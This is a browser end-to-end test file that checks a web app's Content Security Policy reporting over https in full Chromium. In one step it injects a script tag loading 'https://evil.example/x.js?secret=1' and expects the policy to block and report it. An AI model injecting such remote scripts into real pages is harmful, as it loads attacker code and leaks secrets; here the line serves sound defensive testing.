import { cpSync, existsSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { CERTIFICATE, toKeyHash } from '../../test/certificate.ts'
import { openNetwork } from '../../test/network.ts'
import { startProgram } from '../../test/program.ts'
import { test as base, expect } from '../fixtures.ts'

// Needs a separate program and browser: the Reporting API works over https only, and not in the headless shell.
const test = base.extend({ guard: ({ browserName: _ }, use) => use(undefined) })
const { CHROMIUM_PATH = '/usr/bin/chromium' } = process.env
const isWhole = existsSync(CHROMIUM_PATH) && !CHROMIUM_PATH.includes('headless-shell')

test('behind https Chromium reports what the policy stopped, in its newer form', async ({ playwright }, { workerIndex }) => {
  test.skip(!isWhole, 'There is only the headless shell of Chromium here, which sends no such reports')
  const folder = process.env.KARIGAR_E2E_FOLDER ?? ''
  const dataDir = join(folder, `https-${workerIndex}`)
  cpSync(join(folder, 'template'), dataDir, { recursive: true })
  const program = await startProgram(dataDir, { SITE_URL: 'https://localhost', TRUST_PROXY: '1' })
  const network = await openNetwork(program.url, CERTIFICATE)
  const browser = await playwright.chromium.launch({
    executablePath: CHROMIUM_PATH,
    args: [
      ...['--headless=new', '--no-sandbox', '--disable-gpu', '--short-reporting-delay'],
      `--ignore-certificate-errors-spki-list=${toKeyHash(CERTIFICATE)}`,
    ],
  })
  try {
    const page = await browser.newPage()
    await page.goto(network.url)
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js?secret=1'
      document.body.append(script)
    })
    await expect.poll(program.output).toContain('"directive":"script-src-elem","blocked":"evil.example"')
  } finally {
    await browser.close()
    network.close()
    await program.stop()
    rmSync(dataDir, { recursive: true, force: true })
  }
})
